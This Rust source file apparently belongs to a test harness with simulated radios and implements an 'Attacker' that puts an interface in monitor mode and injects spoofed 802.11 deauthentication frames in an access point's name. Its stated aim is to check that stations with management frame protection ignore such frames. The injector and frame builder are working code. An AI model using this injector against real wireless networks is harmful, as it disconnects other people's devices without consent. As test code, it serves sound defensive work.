//! A third party in radio range: a radio of its own in monitor mode, injecting frames (radiotap
//! and 802.11) that claim to come from an AP. Anyone can send such frames; with management
//! frame protection the station must ignore them, and roam with it.

use std::{
    os::fd::{AsRawFd, FromRawFd, OwnedFd},
    thread,
    time::Duration,
};

use anyhow::{bail, Context as _, Result};

use super::{hwsim::Radio, paths, process};

/// The smallest radiotap header: version 0, length 8, no fields (the driver picks the rate).
const RADIOTAP: [u8; 8] = [0, 0, 8, 0, 0, 0, 0, 0];

pub struct Attacker {
    iface: String,
    socket: OwnedFd,
    sequence: u16,
}

impl Attacker {
    /// Turns `radio`'s interface into an injecting monitor (it stays in the initial namespace,
    /// which shares the air with every radio).
    pub fn new(radio: &Radio) -> Result<Attacker> {
        let iface = radio.iface.clone();
        process::ip(&["link", "set", &iface, "down"])?;
        process::run(paths::IW, &["dev", &iface, "set", "type", "monitor"])?;
        process::ip(&["link", "set", &iface, "up"])?;
        let ifindex: i32 =
            std::fs::read_to_string(format!("/sys/class/net/{iface}/ifindex"))?.trim().parse()?;
        // SAFETY: plain socket(2); the descriptor is owned at once.
        let fd = unsafe {
            libc::socket(libc::AF_PACKET, libc::SOCK_RAW, (libc::ETH_P_ALL as u16).to_be() as i32)
        };
        if fd < 0 {
            return Err(std::io::Error::last_os_error()).context("opening a packet socket");
        }
        // SAFETY: fd is a fresh descriptor of ours.
        let socket = unsafe { OwnedFd::from_raw_fd(fd) };
        // SAFETY: sockaddr_ll is plain data; zeroed is a valid start.
        let mut address: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        address.sll_family = libc::AF_PACKET as u16;
        address.sll_protocol = (libc::ETH_P_ALL as u16).to_be();
        address.sll_ifindex = ifindex;
        // SAFETY: bind with a valid sockaddr_ll of the given size.
        let bound = unsafe {
            libc::bind(
                socket.as_raw_fd(),
                (&address as *const libc::sockaddr_ll).cast(),
                std::mem::size_of::<libc::sockaddr_ll>() as u32,
            )
        };
        if bound < 0 {
            return Err(std::io::Error::last_os_error()).context("binding the packet socket");
        }
        Ok(Attacker { iface, socket, sequence: 0 })
    }

    /// Sends `count` deauthentications to `station`, in the name of each of `senders`
    /// (channel, BSSID) in turn.
    pub fn spoof_deauth(
        &mut self,
        senders: &[(u8, String)],
        station: &str,
        reason: u16,
        count: u32,
        interval: Duration,
    ) -> Result<()> {
        let station = parse_mac(station)?;
        let senders: Vec<(u8, [u8; 6])> = senders
            .iter()
            .map(|(channel, bssid)| Ok((*channel, parse_mac(bssid)?)))
            .collect::<Result<_>>()?;
        let mut tuned = None;
        for (_, &(channel, bssid)) in (0..count).zip(senders.iter().cycle()) {
            self.send_deauth(channel, &mut tuned, station, bssid, reason)?;
            if !interval.is_zero() {
                thread::sleep(interval);
            }
        }
        Ok(())
    }

    /// One frame, on `channel`; a full queue (the air is saturated) is waited out, so every
    /// frame counted goes out.
    fn send_deauth(
        &mut self,
        channel: u8,
        tuned: &mut Option<u8>,
        station: [u8; 6],
        bssid: [u8; 6],
        reason: u16,
    ) -> Result<()> {
        if *tuned != Some(channel) {
            let channel_text = channel.to_string();
            process::run(paths::IW, &["dev", &self.iface, "set", "channel", &channel_text])?;
            *tuned = Some(channel);
        }
        let frame = deauth_frame(station, bssid, reason, self.sequence);
        self.sequence = (self.sequence + 1) & 0x0fff;
        loop {
            // SAFETY: write(2) of an initialised buffer on our socket.
            let sent =
                unsafe { libc::write(self.socket.as_raw_fd(), frame.as_ptr().cast(), frame.len()) };
            if sent >= 0 {
                return Ok(());
            }
            let err = std::io::Error::last_os_error();
            if err.raw_os_error() != Some(libc::ENOBUFS) {
                return Err(err).context("injecting a frame");
            }
            thread::sleep(Duration::from_millis(1));
        }
    }
}

/// Radiotap + an unprotected deauthentication from `bssid` to `station`. Pure.
pub fn deauth_frame(station: [u8; 6], bssid: [u8; 6], reason: u16, sequence: u16) -> Vec<u8> {
    let mut frame = RADIOTAP.to_vec();
    frame.extend([0xc0, 0x00, 0x00, 0x00]); // frame control (deauth), duration
    frame.extend(station); // addr1: receiver
    frame.extend(bssid); // addr2: transmitter, the AP it pretends to be
    frame.extend(bssid); // addr3: BSSID
    frame.extend((sequence << 4).to_le_bytes());
    frame.extend(reason.to_le_bytes());
    frame
}

fn parse_mac(text: &str) -> Result<[u8; 6]> {
    let bytes: Vec<u8> =
        text.split(':').map(|part| u8::from_str_radix(part, 16)).collect::<Result<_, _>>()?;
    match <[u8; 6]>::try_from(bytes) {
        Ok(mac) => Ok(mac),
        Err(_) => bail!("{text} is not a MAC address"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_spoofed_deauth_claims_the_ap_as_sender() {
        let sta = [2, 0, 0, 0, 2, 0];
        let ap = [2, 0, 0, 0, 0, 0];
        let frame = deauth_frame(sta, ap, 7, 5);
        assert_eq!(&frame[..8], &RADIOTAP);
        assert_eq!(frame[8], 0xc0, "deauthentication, no protected bit");
        assert_eq!(&frame[12..18], &sta);
        assert_eq!(&frame[18..24], &ap);
        assert_eq!(&frame[24..30], &ap);
        assert_eq!(&frame[30..32], &[0x50, 0x00], "sequence 5");
        assert_eq!(&frame[32..34], &[7, 0]);
        assert_eq!(parse_mac("02:00:00:00:02:00").unwrap(), sta);
        assert!(parse_mac("02:00").is_err());
    }
}
